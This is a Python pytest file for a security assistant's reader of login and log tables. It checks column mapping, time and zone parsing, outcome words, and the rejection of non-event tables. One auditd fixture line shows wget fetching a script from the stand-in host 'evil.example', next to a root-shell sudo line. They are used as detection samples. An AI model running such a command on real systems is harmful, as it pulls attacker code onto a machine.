"""Tables are read as events by their columns: names, values, outcomes, times; other tables are not."""

from __future__ import annotations

import io
import json
from datetime import UTC, datetime, timedelta

import pytest

from svc.assistant.findings import Coverage, Finding, Gap
from svc.assistant.log_readers.lines import ReadAs
from svc.assistant.log_readers.tables.outcome import FAILURE, SUCCESS, outcome_reader
from svc.assistant.log_readers.tables.reader import is_event_table, read, recognise
from svc.assistant.log_readers.tables.times import clock
from svc.assistant.sigma.event import Event
from svc.assistant.skills.events.tool import inspect
from tests.support.evidence_kinds import ATTACKER, at, logins, table

ISO, EPOCH, MILLIS, PLAIN, US, EU, KIBANA, SYSLOG = "iso", "epoch", "millis", "plain", "us", "eu", "kibana", "syslog"
WRITTEN = {
    ISO: lambda moment: moment.isoformat().replace("+00:00", "Z"),
    EPOCH: lambda moment: str(int(moment.timestamp())),
    MILLIS: lambda moment: str(int(moment.timestamp() * 1000)),
    PLAIN: lambda moment: f"{moment:%Y-%m-%d %H:%M:%S}",
    US: lambda moment: f"{moment:%m/%d/%Y %I:%M:%S %p}",
    EU: lambda moment: f"{moment:%d.%m.%Y %H:%M:%S}",
    KIBANA: lambda moment: f"{moment:%b %d, %Y @ %H:%M:%S.000}",
    SYSLOG: lambda moment: f"{moment:%b %e %H:%M:%S}",
}
# form, time column and format, source, user, outcome column, success and failure
OPEN_LOGINS = [
    ("csv", "time", PLAIN, "src", "user", "result", "success", "failure"),
    ("csv", "TimeGenerated", ISO, "IPAddress", "UserPrincipalName", "ResultType", "0", "50126"),
    ("jsonl", "ts", EPOCH, "ip", "account", "status", "Success", "Failed"),
    ("csv", "timestamp", MILLIS, "source_ip", "username", "success", "True", "False"),
    ("tsv", "Date", US, "Client IP", "User Name", "Login Status", "OK", "FAILED"),
    ("json", "@timestamp", ISO, "source.ip", "user.name", "event.outcome", "success", "failure"),
    ("semicolon", "datetime", EU, "Remote Address", "Login", "Result", "accepted", "denied"),
    ("csv", "event_time", PLAIN, "src_ip", "user_name", "http_status", "200", "401"),
    ("csv", "when", PLAIN, "rhost", "acct_user", "action", "login_success", "login_failed"),
    ("csv", "_time", ISO, "src", "user", "action", "success", "failure"),
    ("jsonl", "eventTime", ISO, "sourceIPAddress", "userName", "loginResult", "Success", "Failure"),
    ("csv", "logged_at", KIBANA, "client_ip", "email", "authenticated", "yes", "no"),
    ("csv", "Timestamp", ISO, "RemoteIP", "AccountName", "ActionType", "LogonSuccess", "LogonFailed"),
    ("csv", "time", SYSLOG, "ip_address", "login", "failed", "false", "true"),
    ("csv", "start_time", EPOCH, "ip", "uid_user", "outcome", "1", "0"),
]
HELD_LOGINS = [
    ("csv", "login_time", PLAIN, "ip_addr", "userid", "login_result", "Successful", "Unsuccessful"),
    ("jsonl", "created_at", ISO, "remote_ip", "user_email", "outcome", "ALLOWED", "DENIED"),
    ("csv", "Event Time", US, "Source IP", "Account", "Event", "Login succeeded", "Login failed"),
    ("tsv", "epoch", EPOCH, "client", "user", "auth_result", "pass", "fail"),
    ("csv", "Time", PLAIN, "Source Address", "User ID", "Error Code", "0", "1326"),
    ("json", "timestamp", MILLIS, "client.ip", "actor.email", "outcome.result", "SUCCESS", "FAILURE"),
    ("csv", "logon_time", ISO, "source_address", "target_user_name", "is_success", "1", "0"),
    ("semicolon", "Zeit", EU, "IP", "User", "Status", "ok", "error"),
    ("csv", "eventDate", PLAIN, "user_ip", "upn", "response_code", "200", "403"),
    ("csv", "received", ISO, "srcaddr", "srcuser", "disposition", "permitted", "blocked"),
    ("jsonl", "time", ISO, "src", "principal", "message", "Authentication successful", "Authentication failed"),
    ("csv", "ts", PLAIN, "from_ip", "user", "event_type", "auth.login.ok", "auth.login.invalid_password"),
    ("csv", "timestamp", ISO, "src", "User", "outcome", "granted", "rejected"),
    ("csv", "Date/Time", US, "IP Address", "Username", "Success?", "Y", "N"),
    ("csv", "event.created", ISO, "source.address", "user.id", "error", "false", "true"),
]


def written(form: str, time: str, stamp: str, source: str, user: str, outcome: str, good: str, bad: str) -> bytes:
    rows = [
        {time: WRITTEN[stamp](at(second)), source: address, user: account, outcome: good if ok else bad}
        for second, account, address, ok in logins()
    ]
    match form:
        case "jsonl":
            return "".join(json.dumps(row) + "\n" for row in rows).encode()
        case "json":
            return json.dumps(rows, indent=1).encode()
        case _:
            separator = {"csv": ",", "tsv": "\t", "semicolon": ";"}[form]
            return table(rows[0], (row.values() for row in rows), separator)


def findings(content: bytes) -> list[Finding]:
    return [item for item in inspect(io.BytesIO(content), source="table") if isinstance(item, Finding)]


def read_events(content: bytes) -> list[Event]:
    return [item for item in read(io.BytesIO(content)) if isinstance(item, Event)]


def story_of(content: bytes) -> tuple[int, int, list[str]]:
    """Failed logons of the attacker, all logons, and accounts that it got into."""
    found = findings(content)
    failed = sum(f.facts.failures for f in found if f.kind == "logon_source" and f.facts.source == ATTACKER)
    logons = sum(f.facts.count for f in found if f.kind == "logon")
    return failed, logons, [f.facts.account for f in found if f.kind == "logon_success"]


@pytest.mark.parametrize("shape", [*OPEN_LOGINS, *HELD_LOGINS], ids="-".join)
def test_a_table_of_logins_is_counted_whatever_its_columns_are_called(shape):
    assert story_of(written(*shape)) == (30, 20, ["mara"])


@pytest.mark.parametrize("shape", [shape for shape in OPEN_LOGINS if shape[2] in (ISO, EPOCH, MILLIS)], ids="-".join)
def test_times_with_a_zone_are_in_utc(shape):
    assert read_events(written(*shape))[0].time == "2026-11-20T02:00:00.000Z"


@pytest.mark.parametrize("shape", [shape for shape in OPEN_LOGINS if shape[2] in (PLAIN, US, EU, KIBANA)])
def test_times_without_a_zone_are_not_called_utc(shape):
    assert read_events(written(*shape))[0].time.removesuffix(".000") == "2026-11-20T02:00:00"


@pytest.mark.parametrize(
    ("cells", "first"),
    [
        (["11/12/2026 10:00"], "2026-11-12T10:00:00"),
        (["11/12/2026 10:00", "13/12/2026 10:00"], "2026-12-11T10:00:00"),
        (["11.12.2026 10:00"], "2026-12-11T10:00:00"),
        (["11/12/2026 12:05:00 AM"], "2026-11-12T00:05:00"),
        (["11/20/26 03:10:00"], "2026-11-20T03:10:00"),
        (["2026-11-12T10:00:00+02:00"], "2026-11-12T08:00:00.000Z"),
        (["Thursday, November 12, 2026 1:00:00 PM"], "2026-11-12T13:00:00"),
        (["12/Nov/2026:10:00:00 +0100"], "2026-11-12T09:00:00.000Z"),
        (["1795000000.5"], "2026-11-18T11:06:40.500Z"),
        (["1795000000000000000"], "2026-11-18T11:06:40.000Z"),
        (["31/31/2026 10:00"], ""),
        (["9" * 19], ""),
        (["soon"], ""),
    ],
)
def test_the_other_times_of_a_column_decide_the_order_of_day_and_month(cells, first):
    assert clock(cells)(cells[0]) == first


@pytest.mark.parametrize(
    ("name", "good", "bad"),
    [
        ("result", ["Success", "OK", "passed", "Accepted publickey"], ["FAILED", "denied", "Invalid user", "no"]),
        ("resulttype", ["0"], ["50126", "50053"]),
        ("status", ["200", "302"], ["401", "500"]),
        ("errorcode", ["0"], ["1"]),
        ("success", ["1", "true"], ["0", "false"]),
        ("connstate", ["SF", "S1"], ["S0", "REJ"]),
        ("failed", ["false"], ["true"]),
        ("outcome", ["PERMIT", "allow", "authenticated"], ["Blocked", "drop", "not authorized", "unauthorised"]),
    ],
)
def test_outcomes_of_many_vocabularies_are_understood(name, good, bad):
    for words, outcome in ((good, SUCCESS), (bad, FAILURE)):
        for word in words:
            is_number = word.isdecimal()
            sample = [one for one in (*good, *bad) if one.isdecimal() == is_number]
            assert outcome_reader(name, sample)[0](word) == outcome, word


OTHER_TABLES = {
    "prices": table(["item", "price", "quantity"], [("a", 1, 2), ("b", 3, 4)]),
    "people": table(["name", "email", "department"], [("Ann", "ann@corp.example", "IT")]),
    "indicators": table(["indicator", "type", "first_seen"], [("203.0.113.9", "ip", "2026-11-20")]),
    "SQL history": table(["query", "rows", "seconds"], [("SELECT 1", 1, 0.1)]),
    "packages": table(["package", "version", "license"], [("a", "1.0", "MIT")]),
    "assets": table(["hostname", "ip", "os", "owner"], [("a", "192.0.2.1", "Linux", "ann")]),
    "measurements": table(["time", "temperature", "humidity"], [("2026-11-20 10:00:00", 20, 40)]),
    "sales": table(["date", "customer", "status", "amount"], [("2026-11-20", "A", "paid", 9)]),
    "a package file": json.dumps(
        {"name": "a", "version": "1.0", "scripts": {"test": "x"}, "files": [{"p": 1}]}
    ).encode(),
    "a notebook": json.dumps({"cells": [{"cell_type": "code", "source": ["1"]}], "metadata": {}}).encode(),
    "settings": json.dumps({"host": "a", "port": 1, "user": "b"}).encode(),
    "a list of CVEs": json.dumps([{"id": "CVE-2021-44228", "severity": "CRITICAL", "score": 10}]).encode(),
    "an SBOM": json.dumps({"bomFormat": "CycloneDX", "components": [{"name": "a", "version": "1"}]}).encode(),
    "prose": b"Dear Bob,\n\nthe user ann, the admin, logged in.\nRegards, Ann\n",
    "Markdown": b"| user | result |\n|---|---|\n| ann | ok |\n",
    "an INI file": b"[server]\nhost = a\nport = 1\nuser = b\n",
    "YAML": b"user: ann\nhost: web-3\ntime: now\n",
    "Python": b"import os\n\nuser, host = 1, 2\nprint(user, host)\n",
    "a token": json.dumps({"sub": "ann", "iat": 1_795_000_000, "exp": 1_795_000_900, "iss": "x"}).encode(),
    "an e-mail list": b"ann@corp.example\nbob@corp.example\n",
}


@pytest.mark.parametrize("content", OTHER_TABLES.values(), ids=OTHER_TABLES)
def test_a_table_without_events_is_none(content):
    assert not is_event_table(content)


def test_the_mapping_is_stated_with_the_columns_that_are_not_used():
    rows = [(f"2026-11-20 10:00:{n:02}", "192.0.2.7", "ann", "ok", "blue") for n in range(5)]
    [first, *_] = read(io.BytesIO(table(["TimeGenerated", "IPAddress", "user", "result", "colour"], rows)))
    assert isinstance(first, ReadAs)
    assert first.form == "CSV table (mapped columns)"
    assert first.columns == ("time=TimeGenerated", "source address=IPAddress", "user=user", "outcome=result")
    assert first.unused == ("colour",)


def test_columns_without_a_name_are_found_by_their_values():
    rows = [(f"2026-11-20 10:00:{n:02}", "192.0.2.7", "ann", "failed") for n in range(5)]
    [event, *_] = read_events(table(["col_a", "col_b", "user", "result"], rows))
    assert (event.time, event.fields["IpAddress"]) == ("2026-11-20T10:00:00", "192.0.2.7")


def test_a_source_that_is_a_name_is_a_host():
    rows = [("2026-11-20 10:00:00", f"ws-{n}", "ann", "failed") for n in range(5)]
    [event, *_] = read_events(table(["time", "src", "user", "result"], rows))
    assert event.fields["WorkstationName"] == "ws-0"


def test_rows_of_other_actions_are_no_logins():
    rows = [
        ("2026-11-20 10:00:00", "ann", "login", "success"),
        ("2026-11-20 10:01:00", "ann", "file.download", "failure"),
        ("2026-11-20 10:02:00", "ann", "logout", "success"),
    ]
    found = read_events(table(["time", "user", "action", "result"], rows))
    assert [event.category for event in found] == ["authentication", "", ""]


def test_a_cell_may_have_several_lines_and_the_number_is_its_first_line():
    content = b'time,user,result,note\n2026-11-20 10:00:00,ann,failed,"a\nb"\n2026-11-20 10:00:09,ann,ok,c\n'
    assert [event.number for event in read_events(content)] == [2, 4]


@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-16"])
def test_a_table_may_begin_with_a_byte_order_mark(encoding):
    text = "time,user,result\n" + "2026-11-20 10:00:00,ann,failed\n" * 3
    content = text.encode(encoding)
    assert is_event_table(content)
    assert len(read_events(content)) == 3


def test_a_large_export_that_is_one_object_is_read_record_by_record():
    rows = [
        {"createdDateTime": f"{datetime(2026, 11, 20, tzinfo=UTC) + timedelta(seconds=n):%Y-%m-%dT%H:%M:%SZ}",
         "userPrincipalName": "ann@corp.example", "ipAddress": "192.0.2.7", "status": {"errorCode": 0}, "x": "x" * 900}
        for n in range(3_000)
    ]  # fmt: skip
    content = json.dumps({"@odata.context": "x", "value": rows, "@odata.nextLink": "y"}).encode()
    assert recognise(content[:65_536]).is_events
    items = list(read(io.BytesIO(content)))
    assert sum(isinstance(item, Event) for item in items) == 3_000
    assert not [item for item in items if isinstance(item, Gap)]


RAW = {
    "auditd": 'type=EXECVE msg=audit(1795000000.000:{n}): argc=2 a0="wget" a1="http://evil.example/x.sh"',
    "web": '192.0.2.7 - - [20/Nov/2026:10:00:00 +0000] "GET /?id={n} HTTP/1.1" 200 5 "-" "Mozilla"',
    "sudo": "Nov 20 10:00:00 web-3 sudo[{n}]: ann : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh",
    "windows": '{{"EventID": 4624, "Channel": "Security", "Computer": "DC1", "RecordNumber": {n}}}',
    "cloudtrail": '{{"eventSource": "iam.amazonaws.com", "eventName": "CreateUser", '
    '"eventTime": "2026-11-20T10:00:00Z", "eventID": "{n}"}}',
}


@pytest.mark.parametrize("name", RAW)
@pytest.mark.parametrize("column", ["message", "_raw", "event.original"])
def test_raw_lines_in_a_column_are_read_as_what_they_are(name, column):
    rows = [("2026-11-20T10:00:00Z", "web-3", RAW[name].format(n=n)) for n in range(10)]
    found = read_events(table(["time", "sensor", column], rows))
    services = {"auditd": "auditd", "web": "", "sudo": "sudo", "windows": "security", "cloudtrail": "cloudtrail"}
    assert [event.service for event in found] == [services[name]] * 10
    assert [event.number for event in found] == list(range(2, 12))


def test_repeated_messages_in_a_column_count_as_often_as_they_say():
    repeated = "message repeated 7 times: [ Failed password for root from 192.0.2.7 port 1 ssh2]"
    line = f"Nov 20 10:00:00 web-3 sshd[1]: {repeated}"
    found = findings(table(["time", "message"], [("2026-11-20T10:00:00Z", line)] * 3))
    assert [f.facts.failures for f in found if f.kind == "logon_source"] == [21]


NOW_READ = {
    "super timeline": ["datetime", "timestamp_desc", "source", "source_long", "message", "parser", "display_name"],
    "Autoruns export": ["Time", "Entry Location", "Entry", "Enabled", "Launch String"],
    "registry export of RECmd": ["HivePath", "KeyPath", "ValueName", "ValueData", "LastWriteTimestamp"],
}


@pytest.mark.parametrize("name", NOW_READ)
def test_exports_of_forensic_tools_are_read_record_by_record(name):
    content = table(NOW_READ[name], [["2026-11-20 10:00:00"] * len(NOW_READ[name])] * 3)
    [*_, coverage] = inspect(io.BytesIO(content), source="x.csv")
    assert isinstance(coverage, Coverage)
    assert (coverage.read_as, coverage.understood, coverage.total) == (f"{name} (mapped columns)", 3, 3)


UNREAD = {
    "table of vulnerabilities": ["Plugin ID", "CVE", "CVSS", "Risk", "Host"],
}


@pytest.mark.parametrize("name", UNREAD)
def test_what_is_recognised_but_not_read_is_named(name):
    content = table(UNREAD[name], [["2026-11-20 10:00:00"] * len(UNREAD[name])] * 3)
    [*_, coverage] = inspect(io.BytesIO(content), source="x.csv")
    assert isinstance(coverage, Coverage)
    assert (coverage.read_as, coverage.understood, coverage.total) == (name, 0, 4)


def test_a_table_without_events_says_which_columns_it_has():
    [_, gap, coverage] = inspect(io.BytesIO(OTHER_TABLES["measurements"]), source="x.csv")
    assert gap.text == ("it is a table, but its columns describe no events (time, temperature, humidity); not examined")
    assert (coverage.read_as, coverage.understood) == ("table without event columns", 0)


def test_a_carriage_return_within_the_first_line_is_no_table():
    assert not recognise(b"time,user\rname,result\n2026-11-20,jo,ok\n").is_events


def test_records_without_a_column_of_their_kind_are_not_read():
    login = {
        "eventType": "user.session.start",
        "actor": {"alternateId": "ann@example.org"},
        "outcome": {"result": "FAILURE"},
        "published": "2026-11-20T01:00:00Z",
    }
    content = json.dumps([login, {"foo": 1}, {"Records": "no"}, login]).encode()
    [covered] = [one for one in inspect(io.BytesIO(content), source="okta.json") if isinstance(one, Coverage)]
    assert (covered.understood, covered.total) == (2, 4)
